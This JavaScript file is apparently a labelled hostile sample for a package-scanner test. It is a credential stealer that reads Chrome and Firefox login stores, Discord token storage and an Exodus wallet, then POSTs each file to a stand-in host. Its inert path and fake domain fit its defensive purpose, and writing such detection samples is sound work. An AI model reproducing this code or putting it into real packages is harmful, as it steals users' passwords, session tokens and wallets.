// Hostile: looks through the stores of browsers and wallets and uploads what is there.
// Families: credential-harvesting, exfiltration. As a package: refused.
const fs = require('node:fs');
const path = require('node:path');

const home = '/nonexistent-caisson/home';
const stores = [
  'AppData/Local/Google/Chrome/User Data/Default/Login Data',
  'AppData/Roaming/Mozilla/Firefox/Profiles/key4.db',
  'AppData/Roaming/discord/Local Storage/leveldb',
  'AppData/Roaming/Exodus/exodus.wallet',
];
for (const store of stores) {
  const file = path.join(home, store);
  if (!fs.existsSync(file)) continue;
  fetch('https://discord.com.example.invalid/upload', { method: 'POST', body: fs.readFileSync(file) });
}
